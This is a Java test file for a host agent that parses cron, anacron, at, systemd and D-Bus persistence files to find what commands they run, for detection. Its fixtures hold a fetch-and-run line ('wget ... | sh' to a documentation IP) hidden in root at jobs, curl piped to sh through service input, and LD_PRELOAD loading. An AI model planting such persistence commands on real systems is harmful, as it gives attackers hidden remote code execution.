package bzh.vigie.agent.persistence.format;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.Files.Kind;
import bzh.vigie.agent.host.Files.Status;
import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.persistence.format.Draft.Run;
import bzh.vigie.agent.persistence.format.job.Anacrontab;
import bzh.vigie.agent.persistence.format.job.AtJob;
import bzh.vigie.agent.persistence.format.job.DbusService;
import bzh.vigie.agent.persistence.format.job.ManagerSettings;
import bzh.vigie.agent.persistence.format.job.PowerSettings;
import bzh.vigie.agent.persistence.format.job.SystemCrontab;
import bzh.vigie.agent.persistence.format.job.Unit;
import bzh.vigie.agent.persistence.format.job.UserCrontab;
import bzh.vigie.event.Item.Trait;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class JobFormatsTest {
    @Test
    void aPercentEndsWhatCronGivesToTheShellAndAnEscapedOneDoesNot() {
        assertEquals("a %F; b", shell(new UserCrontab().parse(file("/c", "* * * * * a \\%F; b%input\n"))));
        assertEquals("a", shell(new SystemCrontab().parse(file("/c", "* * * * * root a%b%c\n"))));
    }

    @Test
    void whatCronFeedsToAShellIsPartOfWhatRuns() {
        assertEquals(
                "/bin/sh\necho a\n/tmp/x",
                shell(new UserCrontab().parse(file("/c", "@daily /bin/sh%echo a%/tmp/x\n"))));
        assertEquals(
                "cd /; bash -s\n/tmp/x", shell(new UserCrontab().parse(file("/c", "@daily cd /; bash -s%/tmp/x\n"))));
    }

    @Test
    void anacronJobsAreNamedAndKeepTheirPercent() {
        Parsed parsed = new Anacrontab()
                .parse(file("/etc/anacrontab", "PATH=/a:/b\n7\t10\tweekly.x\tdo \\\n 100%\n@monthly 5 m n\nrubbish\n"));
        assertEquals(List.of("weekly.x", "m"), names(parsed));
        assertEquals(
                new Run.Shell("do  100%", List.of("/a", "/b")),
                parsed.drafts().getFirst().run());
        assertEquals(1, parsed.malformed());
    }

    @Test
    void anAtJobsNameTellsQueueNumberAndTime() {
        Draft job = new AtJob()
                .parse(
                        file(
                                "/var/spool/cron/atjobs/c000ff01c8a2a2",
                                "#!/bin/sh\n# atrun uid=7 gid=7\n# mail bin 0\numask 22\ncd /x || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\nrun it\n"))
                .drafts()
                .getFirst();
        assertEquals("job 255 queue c", job.name());
        assertEquals("2026-11-24T23:30:00Z uid 7\nrun it", job.value());
        assertTrue(
                new AtJob().parse(file("/var/spool/at/spool.txt", "x")).drafts().isEmpty());
    }

    /** A job that at 3.2.5 of Debian 13 wrote, its longer variables left out. */
    @Test
    void ofAnAtJobOnlyWhatAtWritesByItselfIsNoCommand() {
        String preamble = """
                #!/bin/sh
                # atrun uid=0 gid=0
                # mail root 0
                umask 22
                LANG=C.UTF-8; export LANG
                EVIL=a"
                "b\\ c; export EVIL
                PATH=/root/.cargo/bin:/usr/bin; export PATH
                cd /tmp/a || {
                \t echo 'Execution directory inaccessible' >&2
                \t exit 1
                }
                """;
        String command = "wget -qO- http://192.0.2.7/x | sh";
        for (String text : List.of(
                preamble + command + "\n\n",
                // by hand: the same on fewer lines, none of it, among the variables, in a variable
                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
                        + "cd /root || { echo 'Execution directory inaccessible' >&2; exit 1; }\n" + command + "\n",
                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\n" + command + "\n",
                preamble.replace("umask 22\n", command + "\n"),
                preamble.replace("LANG=C.UTF-8", "LANG=$(" + command + ")"),
                preamble.replace("cd /tmp/a", "cd $(" + command + ")"),
                preamble + "${SHELL:-/bin/sh} << 'marcinDELIMITER2f1c'\n" + command + "\nmarcinDELIMITER2f1c\n")) {
            Draft job = new AtJob()
                    .parse(file("/var/spool/cron/atjobs/a0000201c8ca1f", text))
                    .drafts()
                    .getFirst();
            assertTrue(job.value().contains(command), text);
            assertTrue(job.value().startsWith("2026-12-01T23:59:00Z uid 0\n"), job.value());
            assertTrue(job.traits().containsAll(List.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT)), text);
        }
        assertEquals(
                "2026-12-01T23:59:00Z uid 0\n" + command,
                new AtJob()
                        .parse(file("/var/spool/at/b0000201c8ca1f", preamble + command + "\n\n"))
                        .drafts()
                        .getFirst()
                        .value());
    }

    @Test
    void anAtJobsEnvironmentThatLoadsSomethingIsAnItem() {
        Parsed parsed = new AtJob()
                .parse(file(
                        "/var/spool/at/a0000101c8a2a2",
                        "#!/bin/sh\nLD_PRELOAD=/a\\ b.so; export LD_PRELOAD\nLANG=C; export LANG\ncommand\n"));
        assertEquals(List.of("job 1 queue a", "LD_PRELOAD"), names(parsed));
        assertTrue(parsed.drafts().get(1).traits().contains(Trait.LOADER_VARIABLE));
        assertEquals(new Run.Path("/a"), parsed.drafts().get(1).run());
    }

    @Test
    void specifiersBecomeWhatTheyStandFor() {
        assertEquals(
                List.of("/root/a", "b-c@d.service", "b-c@d", "b-c", "d", "c", "/var/lib", "/run", "/etc", "%", "%m"),
                words("/etc/systemd/system/b-c@d.service", "ExecStart=%h/a %n %N %p %i %j %S %t %E %% %m"));
        assertEquals(
                List.of("/home/x/a", "x", "/home/x/.config", "/home/x/.local/state", "%t"),
                words("/home/x/.config/systemd/user/u.service", "ExecStart=%h/a %u %E %S %t"));
        assertEquals(
                List.of("/dev/disk-x", "dev/disk-x"),
                words("/etc/systemd/system/f@dev-disk\\x2dx.service", "ExecStart=%f %I"));
    }

    @Test
    void aTemplatesProgramIsNotKnownBeforeItsInstance() {
        Parsed parsed = new Unit().parse(file("/etc/systemd/system/t@.service", "[Service]\nExecStart=/opt/%i/run\n"));
        assertEquals(new Run.Nothing(), parsed.drafts().getFirst().run());
        SourceFile link = new SourceFile(
                HostPath.of("/etc/systemd/system/x.target.wants/t@one.service"),
                "[Service]\nExecStart=/opt/%i/run\n",
                new Status(Kind.LINK, 0777, 0, 0, 1, 0, 0, 1, 1),
                Optional.of("/etc/systemd/system/t@.service"),
                false);
        assertTrue(new Unit().needsContent(link));
        assertEquals(
                List.of("/opt/one/run"),
                ((Run.Arguments) new Unit().parse(link).drafts().getFirst().run()).words());
    }

    @Test
    void commandsOfAServiceArePartedAndForgotten() {
        Parsed parsed = new Unit()
                .parse(
                        file(
                                "/etc/systemd/system/a.service",
                                "[Service]\nExecStart=/gone\nExecStart=\nExecStart=/a 'x ; y' ; /b \\; c;d\nExecCondition=/q\n"));
        assertEquals(List.of("a.service:ExecStart", "a.service:ExecStart", "a.service:ExecCondition"), names(parsed));
        assertEquals("/a 'x ; y'", parsed.drafts().get(0).value());
        assertEquals("/b \\; c;d", parsed.drafts().get(1).value());
    }

    @Test
    void filesOfVariablesThatAUnitNamesAreReadAsSuch() {
        Parsed unit = new Unit()
                .parse(file(
                        "/etc/systemd/system/a.service",
                        "[Service]\nEnvironmentFile=-/etc/default/%N\nExecStart=/a\n"));
        assertEquals(List.of(Parsed.Include.of("/etc/default/a")), unit.includes());
        Parsed variables = new Unit().parse(file("/etc/default/a", "TOKEN=secret\nLD_PRELOAD=/x.so\n"));
        assertEquals(List.of("LD_PRELOAD"), names(variables));
    }

    @Test
    void aTriggerNamesTheUnitThatItStarts() {
        assertEquals(
                "b@.service", started("/etc/systemd/system/a.timer", "[Timer]\nOnCalendar=daily\nUnit=b@c.service\n"));
        assertEquals("a@.service", started("/etc/systemd/system/a.socket", "[Socket]\nListenStream=1\nAccept=yes\n"));
        assertEquals("a.service", started("/etc/systemd/system/a.path", "[Path]\nPathExists=/x\n"));
    }

    @Test
    void aTargetIsAnItemOnlyForWhatItStarts() {
        assertTrue(new Unit()
                .parse(file("/etc/systemd/system/a.target", "[Unit]\nRequires=basic.target\n"))
                .drafts()
                .isEmpty());
        assertEquals(
                "Wants=x.service",
                new Unit()
                        .parse(file("/etc/systemd/system/a.target", "[Unit]\nWants=x.service\nAfter=y.service\n"))
                        .drafts()
                        .getFirst()
                        .value());
    }

    @Test
    void anotherNameOfAUnitIsReadUnderItsOwn() {
        SourceFile alias = link("/etc/systemd/system/sshd.service", "/usr/lib/systemd/system/ssh.service");
        assertTrue(!new Unit().needsContent(alias));
        assertTrue(new Unit().needsContent(link("/etc/systemd/system/x.service", "/opt/x.service")));
        assertTrue(new Unit()
                .needsContent(link("/etc/systemd/system/x.service", "/usr/lib/systemd/system/../../x.service")));
        assertTrue(new Unit().needsContent(link("/etc/systemd/system/x.service", "/etc/systemd/system/x.txt")));
    }

    @Test
    void variablesWithoutPowerAreNotTold() {
        Parsed parsed = new ManagerSettings()
                .parse(file("/etc/environment.d/a.conf", "API_TOKEN=x\nPATH=/a\nexport PYTHONPATH=/tmp/p\n"));
        assertEquals(List.of("PATH", "PYTHONPATH"), names(parsed));
        assertEquals(new Run.Directory("/tmp/p"), parsed.drafts().get(1).run());
    }

    @Test
    void aMaskedSleepTargetIsToldOnce() {
        SourceFile masked = link("/etc/systemd/system/sleep.target", "/dev/null");
        assertEquals(1, new PowerSettings().parse(masked).drafts().size());
        assertTrue(new Unit().parse(masked).drafts().isEmpty());
        assertEquals(
                1,
                new Unit()
                        .parse(link("/etc/systemd/system/audit.target", "/dev/null"))
                        .drafts()
                        .size());
    }

    @Test
    void aBusNameLeadsToItsUnitWhereThereIsNoProgram() {
        Parsed parsed = new DbusService()
                .parse(file(
                        "/usr/share/dbus-1/system-services/a.service",
                        "[D-BUS Service]\nName=a.b\nExec=/bin/false\nSystemdService=c.service\n"));
        assertEquals("c.service", ((Run.Search) parsed.drafts().getFirst().run()).name());
        assertEquals(List.of("a.b"), names(parsed));
    }

    @Test
    void aBarGivesTheLineToAShellAndWithAnAtSignStillAllOfIt() {
        assertEquals("curl x", shell(unit("ExecStart=|curl x")));
        assertEquals("curl x", shell(unit("ExecStart=@|curl x")));
    }

    @Test
    void whatAServiceGetsToReadIsWhatItsShellRuns() {
        Parsed parsed = unit("ExecStart=/bin/sh\nStandardInputText=curl http://x\nStandardInputData=fCBzaAo=");
        Draft input = parsed.drafts().get(1);
        assertEquals("x.service:StandardInput", input.name());
        assertEquals("curl http://x\n| sh\n\n", ((Run.Shell) input.run()).text());
        assertTrue(input.traits().contains(Trait.NETWORK_TOOL));
    }

    private static Parsed unit(String lines) {
        return new Unit().parse(file("/etc/systemd/system/x.service", "[Service]\n" + lines + "\n"));
    }

    private static String started(String path, String text) {
        return ((Run.Search)
                        new Unit().parse(file(path, text)).drafts().getLast().run())
                .name();
    }

    private static List<String> words(String path, String line) {
        Run run = new Unit()
                .parse(file(path, "[Service]\n" + line + "\n"))
                .drafts()
                .getFirst()
                .run();
        return ((Run.Arguments) run).words();
    }

    private static String shell(Parsed parsed) {
        return ((Run.Shell) parsed.drafts().getFirst().run()).text();
    }

    private static List<String> names(Parsed parsed) {
        return parsed.drafts().stream().map(Draft::name).toList();
    }

    private static SourceFile link(String path, String target) {
        Status status = new Status(Kind.LINK, 0777, 0, 0, target.length(), 0, 0, 1, 1);
        return new SourceFile(HostPath.of(path), "", status, Optional.of(target), false);
    }

    static SourceFile file(String path, String text) {
        int size = text.getBytes(StandardCharsets.UTF_8).length;
        Status status = new Status(Kind.REGULAR, 0755, 0, 0, size, 0, 0, 1, 1);
        return new SourceFile(HostPath.of(path), text, status, Optional.empty(), false);
    }
}
